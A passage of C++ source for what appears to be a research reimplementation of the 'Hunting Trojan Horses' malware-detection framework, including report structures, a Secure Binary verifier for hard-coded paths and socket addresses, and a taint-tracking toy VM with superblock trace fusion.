    size_t spanRingCapacity = obs::SpanTracer::DEFAULT_CAPACITY;

    /**
     * Flight-recorder window (last N events/fires/warnings kept in
     * fixed storage). Dumped into Report.provenance only when the
     * verdict reaches High severity; 0 disables recording.
     */
    size_t flightRecorderEntries = obs::FlightRecorder::DEFAULT_ENTRIES;
};

/** Everything HTH observed and concluded about one run. */
struct Report
{
    os::RunStatus status = os::RunStatus::Done;
    std::vector<secpert::Warning> warnings;

    /** Load-time static pre-screening results (untrusted images).
     * Findings are facts, not warnings: they only raise warnings
     * when a hybrid rule combines them with dynamic evidence. */
    std::vector<secpert::StaticFinding> staticFindings;

    std::string transcript;        //!< paper-style rule output
    /** Canonical CLIPS firing sequence ("rule f1,f2" per line) —
     * what the naive-vs-incremental differential tests compare. */
    std::string fireTrace;
    std::string stdoutData;        //!< the monitored program's stdout
    int exitCode = 0;

    /**
     * Structured run telemetry: the per-phase time breakdown and
     * every named counter/gauge/histogram harvested from the stack
     * (block-cache behaviour, per-rule activations, syscalls by
     * number, shadow-page traffic, ...). This is the stats surface;
     * everything below is derived from it.
     */
    obs::RunTelemetry telemetry;

    /**
     * Statistical deviation verdict, populated (and anomalyScored
     * set) only when HthOptions::baseline was provided. The score is
     * computed on the pre-anomaly telemetry harvest; when the run is
     * anomalous the final `telemetry` additionally reflects the
     * anomaly rules' own engine activity.
     */
    bool anomalyScored = false;
    anomaly::AnomalyScore anomaly;

    /**
     * The evidence graph behind every warning (warning -> rule fire
     * -> matched facts -> events / origins / static findings /
     * anomaly records), built whenever the run was flagged. For a
     * High-severity verdict the flight-recorder window (last N
     * events and fires) is attached as provenance.flight.
     */
    obs::ProvenanceGraph provenance;

    /** Span-tracer snapshot; non-empty only with spanTrace on. */
    std::vector<obs::SpanRecord> spans;
    uint64_t spansDropped = 0;

    /**
     * @deprecated Loose execution counters kept for source
     * compatibility. They are populated from the telemetry
     * snapshot ("os.ticks", "os.syscalls",
     * "secpert.events_analyzed", "secpert.rules_fired") and always
     * match it exactly; new code should read telemetry.metrics.
     */
    uint64_t instructions = 0;
    uint64_t syscalls = 0;
    uint64_t eventsAnalyzed = 0;
    uint64_t rulesFired = 0;

    /** True when any warning was raised. */
    bool flagged() const { return !warnings.empty(); }

    /** True when a warning of at least @p floor was raised. */
    bool
    flagged(secpert::Severity floor) const
    {
        for (const auto &w : warnings)
            if ((int)w.severity >= (int)floor)
                return true;
        return false;
    }

    secpert::Severity
    maxSeverity() const
    {
        return secpert::maxSeverity(warnings);
    }

    /** Number of warnings raised by @p rule. */
    size_t countByRule(const std::string &rule) const;
};

/** The Hunting-Trojan-Horses framework. */
class Hth
{
  public:
    explicit Hth(HthOptions options = {});
    ~Hth();

    Hth(const Hth &) = delete;
    Hth &operator=(const Hth &) = delete;

    /** The guest world: register binaries, files, remotes here. */
    os::Kernel &kernel() { return *kernel_; }

    harrier::Harrier &harrier() { return *harrier_; }
    secpert::Secpert &secpert() { return *secpert_; }
    const HthOptions &options() const { return options_; }

    /** This instance's metric registry (live, pre-harvest). */
    obs::MetricRegistry &metrics() { return metrics_; }

    /** This instance's phase profiler. */
    obs::PhaseProfiler &profiler() { return profiler_; }

    /** Span tracer, or null when spanTrace is off. */
    obs::SpanTracer *spanTracer() { return tracer_.get(); }

    /** Flight recorder, or null when flightRecorderEntries == 0. */
    obs::FlightRecorder *flightRecorder() { return flight_.get(); }

    /**
     * Run @p path under full monitoring until the guest world goes
     * idle, and report what the policy concluded.
     */
    Report monitor(const std::string &path,
                   const std::vector<std::string> &argv,
                   const std::vector<std::string> &env = {},
                   const std::string &stdin_data = "");

  private:
    /** Harvest every layer's stats into metrics_ / the report. */
    void collectTelemetry(Report &report);

    HthOptions options_;
    std::unique_ptr<os::Kernel> kernel_;
    std::unique_ptr<secpert::Secpert> secpert_;
    std::unique_ptr<harrier::TeeSink> tee_;  //!< only with eventTap
    std::unique_ptr<harrier::Harrier> harrier_;
    os::LibcHandles libc_;
    obs::MetricRegistry metrics_;
    obs::PhaseProfiler profiler_;
    std::unique_ptr<obs::SpanTracer> tracer_;
    std::unique_ptr<obs::FlightRecorder> flight_;
};

} // namespace hth

#endif // HTH_CORE_HTH_HH
