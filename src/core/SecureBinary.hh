/**
 * @file
 * Secure Binary verification (paper Appendix B).
 *
 * A Secure Binary is a binary that can be statically verified to
 * contain no hard-coded data usable as a resource name or resource
 * content. The paper's relaxed rule: no file name or socket name may
 * be hard-coded, and data written to such resources must never be
 * hard-coded. This pass makes the concept executable: it scans an
 * image's data section for resource-name-like strings and flags
 * every hard-coded candidate.
 */

#ifndef HTH_CORE_SECUREBINARY_HH
#define HTH_CORE_SECUREBINARY_HH

#include <string>
#include <vector>

#include "vm/Image.hh"

namespace hth
{

/** One hard-coded candidate resource name found in a binary. */
struct SecureBinaryFinding
{
    enum class Kind
    {
        FilePath,       //!< looks like a file-system path
        SocketAddress,  //!< looks like host:port
        RawString,      //!< other embedded string (relaxed-rule info)
    };

    Kind kind = Kind::RawString;
    std::string value;
};

/** Verification result. */
struct SecureBinaryReport
{
    std::vector<SecureBinaryFinding> findings;

    /** Strict rule (App. B rule 1): no hard-coded data at all. */
    bool strictlySecure() const { return findings.empty(); }

    /**
     * Relaxed rule (App. B rule 1'): no hard-coded resource names.
     */
    bool
    secure() const
    {
        for (const auto &f : findings)
            if (f.kind != SecureBinaryFinding::Kind::RawString)
                return false;
        return true;
    }
};

/** Statically verify @p image against the Secure Binary rules. */
SecureBinaryReport verifySecureBinary(const vm::Image &image);

} // namespace hth

#endif // HTH_CORE_SECUREBINARY_HH
