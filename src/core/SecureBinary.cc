#include "core/SecureBinary.hh"

#include <cctype>

#include "support/StrUtil.hh"

namespace hth
{

namespace
{

/** Heuristic: "/usr/bin/x", "./relative", "file.ext" shapes. */
bool
looksLikePath(const std::string &s)
{
    if (s.empty())
        return false;
    if (s[0] == '/' || startsWith(s, "./") || startsWith(s, "../"))
        return true;
    // name.ext with a short alphabetic extension
    size_t dot = s.rfind('.');
    if (dot != std::string::npos && dot > 0 && dot + 1 < s.size() &&
        s.size() - dot - 1 <= 4) {
        bool alpha = true;
        for (size_t i = dot + 1; i < s.size(); ++i)
            alpha = alpha && std::isalpha((unsigned char)s[i]);
        if (alpha)
            return true;
    }
    return false;
}

/** Heuristic: "host:port" with a numeric port. */
bool
looksLikeSocketAddress(const std::string &s)
{
    size_t colon = s.rfind(':');
    if (colon == std::string::npos || colon == 0 ||
        colon + 1 >= s.size())
        return false;
    for (size_t i = colon + 1; i < s.size(); ++i)
        if (!std::isdigit((unsigned char)s[i]))
            return false;
    // Host part: letters, digits, dots, dashes.
    for (size_t i = 0; i < colon; ++i) {
        char c = s[i];
        if (!std::isalnum((unsigned char)c) && c != '.' && c != '-')
            return false;
    }
    return true;
}

} // namespace

SecureBinaryReport
verifySecureBinary(const vm::Image &image)
{
    SecureBinaryReport report;
    for (const std::string &s : extractStrings(image.data)) {
        SecureBinaryFinding finding;
        finding.value = s;
        if (looksLikeSocketAddress(s))
            finding.kind = SecureBinaryFinding::Kind::SocketAddress;
        else if (looksLikePath(s))
            finding.kind = SecureBinaryFinding::Kind::FilePath;
        else
            finding.kind = SecureBinaryFinding::Kind::RawString;
        report.findings.push_back(std::move(finding));
    }
    return report;
}

} // namespace hth
