/**
 * @file
 * The HVM instruction set: a small x86-flavoured register ISA.
 *
 * The VM exists to give Harrier the same instrumentation surface PIN
 * gives the paper's prototype: instructions that move and compute
 * data between registers and memory, control transfers delimiting
 * basic blocks, an `int 0x80` system-call gate with the i386 Linux
 * register convention (number in EAX, arguments in EBX..EDI), and a
 * CPUID instruction sourcing data from "hardware".
 *
 * Every instruction occupies four bytes of guest address space.
 */

#ifndef HTH_VM_ISA_HH
#define HTH_VM_ISA_HH

#include <cstdint>
#include <string>

namespace hth::vm
{

/** General-purpose registers (i386 names). */
enum class Reg : uint8_t
{
    Eax,
    Ebx,
    Ecx,
    Edx,
    Esi,
    Edi,
    Ebp,
    Esp,
    NUM_REGS,
};

constexpr size_t NUM_REGS = (size_t)Reg::NUM_REGS;

/** Register name, e.g. "eax". */
const char *regName(Reg r);

/** Operation codes. */
enum class Opcode : uint8_t
{
    Halt,       //!< stop the machine (guests normally exit via SYS_exit)
    Nop,

    // Data movement
    MovRR,      //!< r1 <- r2
    MovRI,      //!< r1 <- imm (immediate: BINARY data source)
    Load,       //!< r1 <- mem32[r2 + imm]
    Store,      //!< mem32[r2 + imm] <- r1
    LoadB,      //!< r1 <- zext mem8[r2 + imm]
    StoreB,     //!< mem8[r2 + imm] <- low8(r1)
    Lea,        //!< r1 <- r2 + imm
    Push,       //!< push r1
    PushI,      //!< push imm
    Pop,        //!< pop r1

    // ALU
    Add,        //!< r1 <- r1 + r2
    AddI,       //!< r1 <- r1 + imm
    Sub,        //!< r1 <- r1 - r2
    And,        //!< r1 <- r1 & r2
    Or,         //!< r1 <- r1 | r2
    Xor,        //!< r1 <- r1 ^ r2 (xor r,r clears taint: zero idiom)
    Mul,        //!< r1 <- r1 * r2
    Shl,        //!< r1 <- r1 << imm
    Shr,        //!< r1 <- r1 >> imm

    // Flags and control transfer
    Cmp,        //!< set flags from r1 - r2
    CmpI,       //!< set flags from r1 - imm
    Jmp,        //!< eip <- imm (absolute)
    Jz,         //!< if ZF: eip <- imm
    Jnz,        //!< if !ZF: eip <- imm
    Jl,         //!< if SF: eip <- imm
    Jge,        //!< if !SF: eip <- imm
    Call,       //!< push return address; eip <- imm
    CallSym,    //!< call through the image import table (index imm)
    CallR,      //!< push return address; eip <- r1
    Ret,        //!< pop eip

    // System interaction
    Int80,      //!< system call gate
    CpuId,      //!< eax..edx <- processor id (HARDWARE data source)
    Native,     //!< invoke native routine (library implementation)

    NUM_OPCODES,
};

/** Mnemonic for diagnostics, e.g. "mov". */
const char *opcodeName(Opcode op);

/** True for opcodes that end a basic block. Inline: the dispatch
 * loop consults it once per executed instruction. */
constexpr bool
isControlTransfer(Opcode op)
{
    switch (op) {
      case Opcode::Jmp:
      case Opcode::Jz:
      case Opcode::Jnz:
      case Opcode::Jl:
      case Opcode::Jge:
      case Opcode::Call:
      case Opcode::CallSym:
      case Opcode::CallR:
      case Opcode::Ret:
      case Opcode::Int80:
      case Opcode::Halt:
        return true;
      default:
        return false;
    }
}

/**
 * True for the direct jumps a superblock trace can link through:
 * their observed successor is a static target (imm) or the
 * fall-through, so the recorded direction can be re-dispatched
 * inside the trace and the other direction becomes a side exit.
 * Calls, returns, syscalls and Halt end a trace instead (their
 * continuation is dynamic or leaves the VM).
 */
constexpr bool
isTraceLink(Opcode op)
{
    switch (op) {
      case Opcode::Jmp:
      case Opcode::Jz:
      case Opcode::Jnz:
      case Opcode::Jl:
      case Opcode::Jge:
        return true;
      default:
        return false;
    }
}

/** One decoded instruction. */
struct Instruction
{
    Opcode op = Opcode::Nop;
    Reg r1 = Reg::Eax;
    Reg r2 = Reg::Eax;
    int32_t imm = 0;

    std::string toString() const;
};

/** Each instruction occupies this many bytes of address space. */
constexpr uint32_t INSN_SIZE = 4;

} // namespace hth::vm

#endif // HTH_VM_ISA_HH
