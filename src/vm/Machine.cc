#include "vm/Machine.hh"

#include <algorithm>

#include "obs/Span.hh"
#include "support/Logging.hh"

namespace hth::vm
{

using taint::TagSetId;
using taint::TagStore;

Machine::Machine(taint::TagStore &tags) : tags_(&tags)
{
    regTags_.fill(TagStore::EMPTY);
    setReg(Reg::Esp, STACK_TOP);
}

//
// Image loading
//

const LoadedImage &
Machine::loadImage(std::shared_ptr<const Image> image,
                   taint::ResourceId resource, uint32_t base)
{
    if (base == 0) {
        if (image->sharedObject) {
            base = nextSoBase_;
            nextSoBase_ += SO_STRIDE;
        } else {
            base = APP_BASE;
        }
    }

    LoadedImage loaded;
    loaded.image = image;
    loaded.base = base;
    loaded.resource = resource;
    loaded.text = image->text;

    // Apply relocations: patch absolute addresses of local symbols.
    for (const auto &reloc : image->relocs) {
        panicIf(reloc.textIndex >= loaded.text.size(),
                "reloc beyond text in ", image->path);
        loaded.text[reloc.textIndex].imm =
            (int32_t)(base + image->symbol(reloc.symbol));
    }

    // Resolve imports against the images loaded so far.
    for (const auto &sym : image->imports) {
        uint32_t addr = 0;
        for (const auto &other : images_) {
            auto it = other.image->symbols.find(sym);
            if (it != other.image->symbols.end()) {
                addr = other.base + it->second;
                break;
            }
        }
        fatalIf(addr == 0, "image ", image->path,
                ": unresolved import ", sym);
        loaded.importAddrs.push_back(addr);
    }

    // Map the data section and tag it as BINARY data (§7.3.2).
    const uint32_t data_base = base + image->dataOffset();
    if (!image->data.empty()) {
        mem_.writeBytes(data_base, image->data.data(),
                        image->data.size());
        if (trackTaint_) {
            TagSetId tag = tags_->single(
                {taint::SourceType::Binary, resource});
            shadow_.setRange(data_base, (uint32_t)image->data.size(),
                             tag);
        }
    }

    images_.push_back(std::move(loaded));
    // The image set changed: cached blocks hold image pointers and
    // may shadow addresses the new mapping now owns.
    invalidateBlockCache();
    const LoadedImage &ref = images_.back();
    if (instrumentor_)
        instrumentor_->imageLoaded(*this, ref);
    return ref;
}

const LoadedImage *
Machine::findImage(uint32_t addr) const
{
    for (const auto &img : images_)
        if (img.containsText(addr))
            return &img;
    return nullptr;
}

const LoadedImage *
Machine::appImage() const
{
    for (const auto &img : images_)
        if (!img.image->sharedObject)
            return &img;
    return nullptr;
}

uint32_t
Machine::resolveSymbol(const std::string &name) const
{
    for (const auto &img : images_) {
        auto it = img.image->symbols.find(name);
        if (it != img.image->symbols.end())
            return img.base + it->second;
    }
    fatal("unresolved symbol ", name);
}

void
Machine::resetForExec()
{
    images_.clear();
    invalidateBlockCache();
    nextSoBase_ = SO_BASE;
    regs_.fill(0);
    regTags_.fill(TagStore::EMPTY);
    setReg(Reg::Esp, STACK_TOP);
    mem_ = GuestMemory();
    shadow_ = taint::ShadowMemory();
    eip_ = 0;
    zf_ = sf_ = false;
    halted_ = false;
    bbStart_ = true;
}

//
// Guest helpers
//

void
Machine::push32(uint32_t value, TagSetId tag)
{
    uint32_t esp = reg(Reg::Esp) - 4;
    setReg(Reg::Esp, esp);
    mem_.write32(esp, value);
    if (trackTaint_)
        shadow_.setRange(esp, 4, tag);
}

uint32_t
Machine::pop32(TagSetId *tag_out)
{
    uint32_t esp = reg(Reg::Esp);
    uint32_t value = mem_.read32(esp);
    if (tag_out)
        *tag_out = shadow_.rangeUnion(*tags_, esp, 4);
    setReg(Reg::Esp, esp + 4);
    return value;
}

TagSetId
Machine::stringTags(uint32_t addr) const
{
    // Find the string length page-chunked, then union the shadow
    // tags with one page lookup per page instead of one per byte.
    const uint32_t len = (uint32_t)mem_.cstrlen(addr, 4096);
    return shadow_.rangeUnion(*tags_, addr, len);
}

TagSetId
Machine::rangeTags(uint32_t addr, uint32_t len) const
{
    return shadow_.rangeUnion(*tags_, addr, len);
}

void
Machine::writeTagged(uint32_t addr, const void *src, size_t len,
                     TagSetId tag)
{
    mem_.writeBytes(addr, src, len);
    if (trackTaint_)
        shadow_.setRange(addr, (uint32_t)len, tag);
}

//
// Execution
//

Machine::CachedBlock *
Machine::enterBlock(uint32_t pc)
{
    auto it = blockCache_.find(pc);
    if (it != blockCache_.end()) {
        ++stats_.blockCacheHits;
        return &it->second;
    }

    // Miss: resolve the image once and decode to the block-ending
    // control transfer. Every instruction the block executes after
    // this lookup costs neither findImage nor a division.
    const LoadedImage *img = findImage(pc);
    if (!img || (pc - img->base) % INSN_SIZE != 0)
        return nullptr;
    const uint32_t start = (pc - img->base) / INSN_SIZE;
    const uint32_t limit = (uint32_t)img->text.size();
    uint32_t n = 0;
    bool hasNative = false;
    while (start + n < limit) {
        const Opcode op = img->text[start + n].op;
        hasNative |= (op == Opcode::Native);
        ++n;
        if (isControlTransfer(op))
            break;
    }
    if (n == 0)
        return nullptr; // pc at the exact end of text

    ++stats_.blockCacheMisses;
    stats_.insnsDecoded += n;
    CachedBlock blk;
    blk.img = img;
    blk.insns = img->text.data() + start;
    blk.startPc = pc;
    blk.count = n;
    // Native yields to the kernel mid-block; keep such blocks on
    // the generic path rather than teaching traces to re-enter
    // mid-sequence.
    blk.noSb = hasNative;
    return &blockCache_.emplace(pc, blk).first->second;
}

void
Machine::invalidateBlockCache()
{
    ++stats_.blockCacheInvalidations;
    ++cacheGen_;
    // Published traces may still be executing (an instrumentor
    // callback can invalidate mid-trace); park them until the next
    // run() entry instead of destroying them under the engine.
    for (auto &[pc, blk] : blockCache_)
        if (blk.sb)
            retiredSbs_.push_back(std::move(blk.sb));
    blockCache_.clear();
    curBlock_ = nullptr;
    curOff_ = 0;
    pausedSb_ = nullptr;
    // A trace being recorded references blocks that no longer
    // exist; abandon it (re-forms if the path stays hot).
    recording_ = false;
    recordPcs_.clear();
}

TagSetId
Machine::binaryTagSlow(const LoadedImage &img)
{
    // First immediate executed from this block since it was cached:
    // intern the tag and memoise it for the rest of the block's
    // lifetime. An instrumentor callback may have invalidated the
    // cache mid-step; intern without memoising then.
    taint::TagSetId tag =
        tags_->single({taint::SourceType::Binary, img.resource});
    if (curBlock_ && curBlock_->img == &img)
        curBlock_->binTag = tag;
    return tag;
}

void
Machine::propagate(const Instruction &insn, uint32_t pc,
                   const LoadedImage &img)
{
    (void)pc;
    ++stats_.taintOps;
    switch (insn.op) {
      case Opcode::MovRR:
        setRegTag(insn.r1, regTag(insn.r2));
        break;
      case Opcode::MovRI:
      case Opcode::Lea:
        // Immediates come from the binary image (§7.3.1 example 2);
        // lea propagates the base register's provenance.
        if (insn.op == Opcode::MovRI)
            setRegTag(insn.r1, binaryTag(img));
        else
            setRegTag(insn.r1, regTag(insn.r2));
        break;
      case Opcode::Load: {
        uint32_t ea = reg(insn.r2) + (uint32_t)insn.imm;
        setRegTag(insn.r1, shadow_.rangeUnion(*tags_, ea, 4));
        break;
      }
      case Opcode::LoadB: {
        uint32_t ea = reg(insn.r2) + (uint32_t)insn.imm;
        setRegTag(insn.r1, shadow_.get(ea));
        break;
      }
      case Opcode::Store: {
        uint32_t ea = reg(insn.r2) + (uint32_t)insn.imm;
        shadow_.setRange(ea, 4, regTag(insn.r1));
        break;
      }
      case Opcode::StoreB: {
        uint32_t ea = reg(insn.r2) + (uint32_t)insn.imm;
        shadow_.set(ea, regTag(insn.r1));
        break;
      }
      case Opcode::Add:
      case Opcode::Sub:
      case Opcode::And:
      case Opcode::Or:
      case Opcode::Mul:
        // Result carries the union of both operands' sources
        // (§7.3.1 example 3).
        setRegTag(insn.r1,
                  tags_->unite(regTag(insn.r1), regTag(insn.r2)));
        break;
      case Opcode::Xor:
        // xor r,r is the x86 zeroing idiom: the result is a constant
        // independent of the operand, so taint is cleared.
        if (insn.r1 == insn.r2)
            setRegTag(insn.r1, TagStore::EMPTY);
        else
            setRegTag(insn.r1,
                      tags_->unite(regTag(insn.r1), regTag(insn.r2)));
        break;
      case Opcode::AddI:
      case Opcode::Shl:
      case Opcode::Shr:
        // Constant-offset arithmetic keeps the operand's provenance;
        // uniting in BINARY here would drown every loop counter in
        // binary taint without adding policy signal.
        break;
      case Opcode::CpuId: {
        // Processor identification: HARDWARE source (§7.3.1 ex. 4).
        TagSetId hw = tags_->single(
            {taint::SourceType::Hardware, taint::NO_RESOURCE});
        setRegTag(Reg::Eax, hw);
        setRegTag(Reg::Ebx, hw);
        setRegTag(Reg::Ecx, hw);
        setRegTag(Reg::Edx, hw);
        break;
      }
      case Opcode::PushI:
        // Handled in the executor (tag passed to push32).
        break;
      default:
        break;
    }
}

//
// Trace linking (superblock formation)
//

namespace
{

/** Link handler for @p op when the recorded direction is the taken
 * branch target. */
uint16_t
linkTaken(Opcode op)
{
    switch (op) {
      case Opcode::Jz:  return SB_JZ_TAKEN;
      case Opcode::Jnz: return SB_JNZ_TAKEN;
      case Opcode::Jl:  return SB_JL_TAKEN;
      default:          return SB_JGE_TAKEN;
    }
}

/** Link handler for @p op when the recorded direction fell through. */
uint16_t
linkFall(Opcode op)
{
    switch (op) {
      case Opcode::Jz:  return SB_JZ_FALL;
      case Opcode::Jnz: return SB_JNZ_FALL;
      case Opcode::Jl:  return SB_JL_FALL;
      default:          return SB_JGE_FALL;
    }
}

/** Untainted-specialization upgrade for memory-touching handlers;
 * identity for everything else. */
uint16_t
specializeHandler(uint16_t h)
{
    switch (h) {
      case SB_LOAD_T:   return SB_LOAD_TE;
      case SB_LOADB_T:  return SB_LOADB_TE;
      case SB_STORE_T:  return SB_STORE_TE;
      case SB_STOREB_T: return SB_STOREB_TE;
      case SB_PUSH_T:   return SB_PUSH_TE;
      case SB_POP_T:    return SB_POP_TE;
      default:          return h;
    }
}

/** Fused macro-op for a compare followed by an in-trace branch
 * (SB_NUM_HANDLERS when the pair is not fusable). */
uint16_t
fuseCmpBranch(bool immediate, uint16_t branch)
{
    switch (branch) {
      case SB_JZ_TAKEN:
        return immediate ? SB_CMPI_JZ_TAKEN : SB_CMP_JZ_TAKEN;
      case SB_JZ_FALL:
        return immediate ? SB_CMPI_JZ_FALL : SB_CMP_JZ_FALL;
      case SB_JNZ_TAKEN:
        return immediate ? SB_CMPI_JNZ_TAKEN : SB_CMP_JNZ_TAKEN;
      case SB_JNZ_FALL:
        return immediate ? SB_CMPI_JNZ_FALL : SB_CMP_JNZ_FALL;
      case SB_JL_TAKEN:
        return immediate ? SB_CMPI_JL_TAKEN : SB_CMP_JL_TAKEN;
      case SB_JL_FALL:
        return immediate ? SB_CMPI_JL_FALL : SB_CMP_JL_FALL;
      case SB_JGE_TAKEN:
        return immediate ? SB_CMPI_JGE_TAKEN : SB_CMP_JGE_TAKEN;
      case SB_JGE_FALL:
        return immediate ? SB_CMPI_JGE_FALL : SB_CMP_JGE_FALL;
      default:
        return SB_NUM_HANDLERS;
    }
}

/** Triple macro-op for a counter bump in front of a fused
 * compare-and-branch (SB_NUM_HANDLERS when not fusable). */
uint16_t
fuseAddiCmpiBranch(uint16_t cmpBranch)
{
    switch (cmpBranch) {
      case SB_CMPI_JZ_TAKEN:   return SB_ADDI_CMPI_JZ_TAKEN;
      case SB_CMPI_JZ_FALL:    return SB_ADDI_CMPI_JZ_FALL;
      case SB_CMPI_JNZ_TAKEN:  return SB_ADDI_CMPI_JNZ_TAKEN;
      case SB_CMPI_JNZ_FALL:   return SB_ADDI_CMPI_JNZ_FALL;
      case SB_CMPI_JL_TAKEN:   return SB_ADDI_CMPI_JL_TAKEN;
      case SB_CMPI_JL_FALL:    return SB_ADDI_CMPI_JL_FALL;
      case SB_CMPI_JGE_TAKEN:  return SB_ADDI_CMPI_JGE_TAKEN;
      case SB_CMPI_JGE_FALL:   return SB_ADDI_CMPI_JGE_FALL;
      default:                 return SB_NUM_HANDLERS;
    }
}

/**
 * Peephole pass over a built trace: rewrite the first op of known
 * adjacent groups to a fused macro-op handler. The trailing ops stay
 * in place unmodified — branch targets may still land on them, and
 * the fused handler falls back to them on the budget edge.
 */
void
fusePeepholes(std::vector<SbOp> &ops)
{
    for (size_t i = 0; i + 1 < ops.size(); ++i) {
        SbOp &a = ops[i];
        const SbOp &b = ops[i + 1];
        if (a.handler == SB_CMP || a.handler == SB_CMPI) {
            const uint16_t fused =
                fuseCmpBranch(a.handler == SB_CMPI, b.handler);
            if (fused != SB_NUM_HANDLERS) {
                a.handler = fused;
                ++i; // pair consumed
            }
        } else if (((a.handler == SB_MOVRI && b.handler == SB_ADD) ||
                    (a.handler == SB_MOVRI_T &&
                     b.handler == SB_ADD_T)) &&
                   b.r1 == a.r1 && b.r2 != a.r1) {
            // `add a, a` is excluded: the fused taint handler reads
            // the index tag before writing the result tag.
            a.handler = (a.handler == SB_MOVRI) ? SB_MOVRI_ADD
                                                : SB_MOVRI_ADD_T;
            ++i;
        } else if (b.handler == SB_ADDI) {
            // Memory op + pointer/counter bump. `_TE` variants stay
            // unfused: their deopt path must never have a
            // half-retired macro-op to unwind.
            switch (a.handler) {
              case SB_LOAD:     a.handler = SB_LOAD_ADDI; break;
              case SB_LOAD_T:   a.handler = SB_LOAD_T_ADDI; break;
              case SB_LOADB:    a.handler = SB_LOADB_ADDI; break;
              case SB_LOADB_T:  a.handler = SB_LOADB_T_ADDI; break;
              case SB_STORE:    a.handler = SB_STORE_ADDI; break;
              case SB_STORE_T:  a.handler = SB_STORE_T_ADDI; break;
              case SB_STOREB:   a.handler = SB_STOREB_ADDI; break;
              case SB_STOREB_T: a.handler = SB_STOREB_T_ADDI; break;
              default:          continue;
            }
            ++i;
        }
    }
    // Second pass: grow `addi; cmpi+jcc` pairs into the loop-control
    // triple. Runs after pair fusion so the compare is already fused
    // with its branch (the triple's budget-edge fallback retires the
    // addi alone and re-enters at the intact pair).
    for (size_t i = 0; i + 2 < ops.size(); ++i) {
        SbOp &a = ops[i];
        if (a.handler != SB_ADDI)
            continue;
        const uint16_t fused =
            fuseAddiCmpiBranch(ops[i + 1].handler);
        if (fused != SB_NUM_HANDLERS) {
            a.handler = fused;
            i += 2; // triple consumed
        }
    }
    // Third pass: grow an address-formation pair that feeds a fused
    // memory group into the four-instruction indexed-access macro-op
    // (`lea base; add base, index; load/store; bump`). Both
    // constituent pairs already fused, so every interior op keeps an
    // executable form for mid-group entry (branch targets,
    // budget-edge resume).
    for (size_t i = 0; i + 3 < ops.size(); ++i) {
        SbOp &a = ops[i];
        uint16_t fused = SB_NUM_HANDLERS;
        if (a.handler == SB_MOVRI_ADD) {
            switch (ops[i + 2].handler) {
              case SB_LOAD_ADDI:
                fused = SB_MOVRI_ADD_LOAD_ADDI; break;
              case SB_LOADB_ADDI:
                fused = SB_MOVRI_ADD_LOADB_ADDI; break;
              case SB_STORE_ADDI:
                fused = SB_MOVRI_ADD_STORE_ADDI; break;
              case SB_STOREB_ADDI:
                fused = SB_MOVRI_ADD_STOREB_ADDI; break;
              default: break;
            }
        } else if (a.handler == SB_MOVRI_ADD_T) {
            switch (ops[i + 2].handler) {
              case SB_LOAD_T_ADDI:
                fused = SB_MOVRI_ADD_LOAD_T_ADDI; break;
              case SB_LOADB_T_ADDI:
                fused = SB_MOVRI_ADD_LOADB_T_ADDI; break;
              case SB_STORE_T_ADDI:
                fused = SB_MOVRI_ADD_STORE_T_ADDI; break;
              case SB_STOREB_T_ADDI:
                fused = SB_MOVRI_ADD_STOREB_T_ADDI; break;
              default: break;
            }
        }
        if (fused != SB_NUM_HANDLERS) {
            a.handler = fused;
            i += 3; // quad consumed
        }
    }
}

} // namespace

void
Machine::appendRecorded(uint32_t pc, const CachedBlock &blk)
{
    recordPcs_.push_back(pc);
    const Instruction &lastInsn = blk.insns[blk.count - 1];
    // Only a direct jump's observed direction can be re-dispatched
    // inside the trace; anything else (call, ret, syscall, halt,
    // fall-off-text) ends the trace at this block.
    if (!isTraceLink(lastInsn.op) ||
        recordPcs_.size() >= MAX_SB_BLOCKS)
        finalizeTrace(false);
}

void
Machine::recordArrival(uint32_t pc, const CachedBlock &blk)
{
    if (pc == recordPcs_.front()) {
        finalizeTrace(true); // closed a loop back to the entry
        return;
    }
    for (uint32_t p : recordPcs_)
        if (p == pc) {
            finalizeTrace(false); // internal cycle: stop at the jump
            return;
        }
    if (blk.noSb || blk.sb) {
        finalizeTrace(false); // don't trace through another trace
        return;
    }
    appendRecorded(pc, blk);
}

void
Machine::finalizeTrace(bool loopBack)
{
    recording_ = false;
    if (recordPcs_.empty())
        return;
    obs::SpanScope span(spanTracer_, obs::SpanId::SuperblockForm);
    auto entryIt = blockCache_.find(recordPcs_.front());
    if (entryIt == blockCache_.end())
        return;
    CachedBlock &entry = entryIt->second;
    // Unbuildable content (redirected control mid-recording, a bad
    // import index the generic path must fault on, an undecodable
    // opcode) permanently pins the entry block to the generic path.
    auto fail = [&entry]() { entry.noSb = true; };

    const bool taint = trackTaint_;
    auto sb = std::make_shared<Superblock>();
    sb->entryPc = recordPcs_.front();
    sb->blockCount = (uint32_t)recordPcs_.size();
    sb->taintMode = taint;

    bool sawPushI = false;
    // Interning is memoised inside the TagStore and builds are
    // rare, so per-instruction interning here is fine.
    auto binTag = [this](const LoadedImage *img) {
        return tags_->single(
            {taint::SourceType::Binary, img->resource});
    };

    size_t pendingLink = SIZE_MAX; // link awaiting next block index

    for (size_t i = 0; i < recordPcs_.size(); ++i) {
        auto it = blockCache_.find(recordPcs_[i]);
        if (it == blockCache_.end())
            return fail();
        const CachedBlock &blk = it->second;
        if (blk.noSb || blk.count == 0)
            return fail();

        const bool last = (i + 1 == recordPcs_.size());
        uint32_t succ = 0;
        bool linked = false;
        if (!last) {
            succ = recordPcs_[i + 1];
            linked = true;
        } else if (loopBack) {
            succ = recordPcs_.front();
            linked = true;
        }
        if (linked && !isTraceLink(blk.insns[blk.count - 1].op))
            return fail();

        if (pendingLink != SIZE_MAX) {
            sb->ops[pendingLink].dest = (uint32_t)sb->ops.size();
            pendingLink = SIZE_MAX;
        }

        SbOp bbOp;
        bbOp.handler = SB_BB;
        bbOp.pc = blk.startPc;
        sb->ops.push_back(bbOp);

        for (uint32_t j = 0; j < blk.count; ++j) {
            const Instruction &insn = blk.insns[j];
            SbOp o;
            o.r1 = insn.r1;
            o.r2 = insn.r2;
            o.imm = insn.imm;
            o.pc = blk.startPc + j * INSN_SIZE;
            const bool term = (j + 1 == blk.count);

            if (term && isTraceLink(insn.op) && linked) {
                // In-trace link: the recorded direction continues at
                // `dest`, the other becomes a side exit.
                const uint32_t taken = (uint32_t)insn.imm;
                const uint32_t fall = o.pc + INSN_SIZE;
                if (insn.op == Opcode::Jmp) {
                    if (taken != succ)
                        return fail(); // redirected mid-recording
                    o.handler = SB_JMP;
                } else if (taken == succ) {
                    o.handler = linkTaken(insn.op);
                    o.exitPc = fall;
                } else if (fall == succ) {
                    o.handler = linkFall(insn.op);
                    o.exitPc = taken;
                } else {
                    return fail();
                }
